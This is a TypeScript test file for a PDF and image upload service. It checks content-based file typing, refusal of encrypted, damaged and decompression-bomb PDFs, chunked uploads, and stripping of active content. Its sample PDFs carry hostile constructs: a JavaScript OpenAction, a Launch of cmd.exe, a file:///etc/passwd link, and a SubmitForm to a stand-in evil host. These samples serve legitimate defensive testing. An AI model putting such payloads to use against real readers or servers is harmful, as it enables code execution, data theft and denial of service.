import { randomUUID } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { db } from '@/lib/platform/db';
import { jpeg } from '../../support/accounts/photo';
import { readPdf } from '../../support/enrolment/pdf-text';
import { staffWith } from '../../support/office/office';
import { smallPdf } from '../../support/office/small-pdf';
import { withEmptyTables } from '../../support/process/empty-tables';
import { finishing, sendPiece, uploaded } from './shelf-samples';

withEmptyTables();

test('a file is what its content says; what cannot be read is refused with what to do', async () => {
  const { token } = await staffWith('counsellor');
  const refusal = async (bytes: Uint8Array) => {
    const { status, body } = await uploaded(token, bytes);
    return [status, body.fields?.file];
  };
  const pdf = smallPdf(['Notes']);
  const encrypt = { trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -44 >>' };
  expect(await refusal(smallPdf(['Notes'], encrypt))).toEqual([
    422,
    expect.stringMatching(/protected.*without protection/),
  ]);
  const damaged = [422, expect.stringMatching(/damaged.*new PDF/)];
  expect(await refusal(pdf.subarray(0, pdf.length - 60))).toEqual(damaged);
  expect(await refusal(Buffer.from('%PDF-1.7\n%%EOF'))).toEqual(damaged);
  expect(await refusal(Buffer.from('PK\u0003\u0004 a ZIP'))).toEqual([
    422,
    'Choose a PDF, or a picture as JPEG or PNG.',
  ]);
  const photo = await jpeg();
  expect(await refusal(photo.subarray(0, photo.length / 2))).toEqual([
    422,
    expect.stringContaining('picture is damaged'),
  ]);
  expect((await uploaded(token, photo)).body.data).toMatchObject({ type: 'image/jpeg' });

  const upload = randomUUID();
  await sendPiece(token, upload, 0, pdf.subarray(0, 100));
  expect(await finishing(token, upload, pdf)).toMatchObject({
    status: 422,
    body: { fields: { file: expect.stringContaining('not arrive') } },
  });
  // A repeated piece replaces itself, and a completed file stays unchanged.
  const done = await uploaded(token, pdf, upload);
  expect(done).toMatchObject({ status: 200, body: { data: { type: 'application/pdf' } } });
  expect(await finishing(token, upload, pdf)).toEqual(done);
  expect((await sendPiece(token, upload, 0, pdf)).status).toBe(409);
  const other = await staffWith('owner');
  expect((await finishing(other.token, upload, pdf)).status).toBe(404);
  expect((await sendPiece(token, randomUUID(), 50, pdf)).status).toBe(422);
});

test.each([
  ['one stream', '/FlateDecode', (zeros: Buffer) => deflateSync(zeros)],
  ['an escaped name', '/Flate#44ecode', (zeros: Buffer) => deflateSync(zeros)],
  [
    'nested streams',
    '[/FlateDecode /FlateDecode]',
    (zeros: Buffer) => deflateSync(deflateSync(zeros)),
  ],
])('a PDF that unpacks to far more than its size is refused: %s', async (_, filter, pack) => {
  const { token } = await staffWith('counsellor');
  const ballast = pack(Buffer.alloc(40 * 1024 * 1024, ' '));
  const dictionary = `/Type /Obj#53tm /N 1 /First 4 /Filter ${filter}`;
  const { status, body } = await uploaded(token, smallPdf(['Notes'], { ballast, dictionary }));
  expect([status, body.fields?.file]).toEqual([
    422,
    expect.stringMatching(/unpacks|unusual way.*print it into a new PDF/),
  ]);
});

test('a check that takes too long or too much memory ends without harm to the site', async () => {
  const { token } = await staffWith('counsellor');
  const cycle = smallPdf(['Notes']).toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R]');
  const { status, body } = await uploaded(token, Buffer.from(cycle, 'latin1'));
  expect([status, body.fields?.file]).toEqual([422, expect.stringContaining('new PDF')]);
});

test('of one account one file is checked at a time', async () => {
  const { id, token } = await staffWith('counsellor');
  const checkedUntil = new Date(Date.now() + 60_000);
  const data = { id: randomUUID(), staffId: id, checkedUntil };
  const { id: other } = await db.shelfFile.create({ data });
  const pdf = smallPdf(['Notes']);
  const upload = randomUUID();
  const refused = await uploaded(token, pdf, upload);
  expect([refused.status, refused.body.message]).toEqual([
    503,
    expect.stringContaining('Another file of yours is being checked.'),
  ]);
  await db.shelfFile.update({ where: { id: other }, data: { checkedUntil: null } });
  expect((await finishing(token, upload, pdf)).status).toBe(200);
});

test('scripts, actions and files in a PDF are taken out; its pages and links stay', async () => {
  const { token } = await staffWith('owner');
  const uri = (link: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (${link}) >> >>`;
  const catalog = `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>
    /AA << /WC << /S /Launch /F (cmd.exe) >> >>
    /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (b) >>] >>
      /EmbeddedFiles << /Names [(x) << /EF << /F 1 0 R >> >>] >> >>
    /AcroForm << /XFA [(template) 1 0 R] /Fields [] >>`;
  const page = `/Annots [${uri('https://example.org/notes')} ${uri('javascript:alert\\(1\\)')}
    ${uri('file:///etc/passwd')} << /Subtype /FileAttachment /Rect [0 0 9 9] >>
    << /Subtype /Link /Rect [0 0 9 9] /A << /S /J#61vaScript /JS (c) /Next << /S /Launch >> >> >>]
    /AA << /O << /S /SubmitForm /F (https://evil.example) >> >>`;
  const { file } = (await uploaded(token, smallPdf(['Kept'], { catalog, page }))).body.data as {
    file: string;
  };
  const parts = await db.shelfFilePart.findMany({ where: { fileId: file } });
  const bytes = Buffer.concat(parts.map((part) => part.bytes));
  const { PDFDocument } = await import('@cantoo/pdf-lib');
  const { context } = await PDFDocument.load(bytes);
  const text = context
    .enumerateIndirectObjects()
    .map(([, object]) => `${object}`)
    .join('\n');
  expect(text).not.toMatch(
    /JavaScript|\/JS\b|\/AA\b|Launch|SubmitForm|XFA|EmbeddedFile|\/EF\b|FileAttachment|javascript|passwd/,
  );
  expect(text).toContain('https://example.org/notes');
  expect((await readPdf(bytes)).text).toContain('Kept');
});
